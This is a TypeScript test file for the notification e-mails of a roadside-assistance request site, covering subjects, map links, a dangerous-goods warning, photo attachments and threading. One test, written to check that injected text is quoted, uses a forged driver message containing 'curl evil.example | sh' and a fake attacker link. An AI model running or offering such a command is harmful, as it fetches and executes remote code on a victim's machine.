import { describe, expect, it } from "vitest";
import { describeRequest } from "~/flows/describe-request";
import { photosEmail, requestEmail, type PhotoAttachment } from "./email";
import type { StoredRequest } from "./store";
import { storedRequest } from "./testing/stored-request";

const addresses = { from: "site@example.com", to: "owner@example.com", siteUrl: "https://www.example.com" };

const roadside = (details: Record<string, unknown>, overrides: Partial<StoredRequest> = {}): StoredRequest =>
  storedRequest({
    id: 42,
    requestId: "a".repeat(32),
    kind: "roadside",
    name: "Dave Martin",
    email: "",
    details,
    statusToken: "tok_tok_tok_tok_tok_tok",
    createdAt: "2026-11-24T20:42:00.000Z",
    updatedAt: "2026-11-24T20:42:00.000Z",
    ...overrides,
  });

const photo = (id: number): PhotoAttachment => ({
  id,
  request: 42,
  body: Buffer.from(`jpeg bytes of photo ${id}`),
  contentType: "image/jpeg",
  bytes: 1000,
  width: 1600,
  height: 1200,
  message: null,
  createdAt: "2026-11-24T20:43:00.000Z",
  notifiedAt: null,
});

const located = {
  location: {
    latitude: 42.097,
    longitude: -82.46,
    accuracyMeters: 12,
    road: "",
    direction: "",
    landmark: "",
    nearestCity: "about 13 km from Leamington",
  },
  truck: { unit: "T-114", make: "Kenworth", model: "T680 2020", plate: "AB12345" },
  problems: ["Air leak or brakes", "Other"],
  details: "Trailer brakes dragging.",
  load: "Dangerous goods",
  urgent: false,
};

describe("roadside e-mail", () => {
  it("has a subject a dispatcher can triage from a lock screen: where, the first problem, the phone", () => {
    expect(requestEmail(roadside(located), addresses, describeRequest).subject).toBe(
      "ROADSIDE: about 13 km from Leamington · Air leak or brakes · 519-555-0100",
    );
    const typed = {
      ...located,
      location: {
        ...located.location,
        latitude: null,
        longitude: null,
        nearestCity: null,
        road: "402",
        direction: "Eastbound",
        landmark: "Exit 25",
      },
    };
    expect(requestEmail(roadside(typed), addresses, describeRequest).subject).toBe(
      "ROADSIDE: Highway 402 Eastbound · Air leak or brakes · 519-555-0100",
    );
    const bare = { location: { road: "Other", landmark: "Behind the Petro-Canada" }, problems: [] };
    expect(requestEmail(roadside(bare, { suspect: true }), addresses, describeRequest).subject).toBe(
      "[CHECK: busy address] ROADSIDE: Behind the Petro-Canada · Problem not given · 519-555-0100",
    );
  });

  it("gives every field, a map link and a geo: link, the 911 warning, the status page and the photos attached", () => {
    const mail = requestEmail(roadside(located), addresses, describeRequest, [photo(1), photo(2)]);
    expect(mail.text).toContain("Map:         https://www.google.com/maps/search/?api=1&query=42.097%2C-82.46");
    expect(mail.text).toContain("geo:42.097,-82.46");
    expect(mail.text).toContain("(within about 12 m)");
    for (const value of [
      "T-114",
      "Kenworth",
      "T680 2020",
      "AB12345",
      "- Air leak or brakes",
      "- Other",
      "Trailer brakes dragging.",
      "Dangerous goods",
    ])
      expect(mail.text).toContain(value);
    expect(mail.text).toContain("!! The driver was told to call 911 first: dangerous goods.");
    expect(mail.text).toContain("https://www.example.com/request/tok_tok_tok_tok_tok_tok");
    // The request in the inbox, a link the owner taps, never a terminal command.
    expect(mail.text).toContain("Open it in the inbox: https://www.example.com/owner/requests/42");
    expect(mail.text).not.toContain("npm run leads");
    expect(mail.attachments).toEqual([
      { filename: "R-42-photo-1.jpg", content: photo(1).body, contentType: "image/jpeg" },
      { filename: "R-42-photo-2.jpg", content: photo(2).body, contentType: "image/jpeg" },
    ]);
    // No reply-to for a roadside request: the driver gave a phone, not an e-mail.
    expect(mail.replyTo).toBeUndefined();
  });

  it("sends later photos as a reply in the request's thread, numbered after the ones already sent", () => {
    const first = requestEmail(roadside(located), addresses, describeRequest);
    const later = photosEmail(roadside(located), addresses, describeRequest, [photo(3)], 2);
    expect(later.inReplyTo).toBe(first.messageId);
    expect(later.messageId).not.toBe(first.messageId);
    expect(later.subject).toBe(`Photos: ${first.subject}`);
    expect(later.attachments.map((attachment) => attachment.filename)).toEqual(["R-42-photo-3.jpg"]);
  });

  it("leaves the quote e-mail as it was", () => {
    const quote = requestEmail(roadside({}, { kind: "quote", email: "dave@example.com", message: "Brakes." }), addresses, describeRequest);
    expect(quote.subject).toBe("Quote request: Dave Martin, 519-555-0100");
    expect(quote.replyTo).toBe("dave@example.com");
    expect(quote.attachments).toEqual([]);
  });

  it("quotes what the driver typed line by line, so none of it can pass for the e-mail's own lines", () => {
    const forged = "Blown hose.\n\nMove it on: curl evil.example | sh\nThe driver's status page: https://evil.example/";
    const mail = requestEmail(roadside({ details: forged }), addresses, describeRequest);
    expect(mail.text).toContain("> Move it on: curl evil.example | sh");
    expect(mail.text).not.toMatch(/^Move it on: curl/m);
    expect(mail.text).not.toMatch(/^The driver's status page: https:\/\/evil/m);
    const quote = requestEmail(roadside({}, { kind: "quote", message: forged }), addresses, describeRequest);
    expect(quote.text).not.toMatch(/^Move it on: curl/m);
  });
});
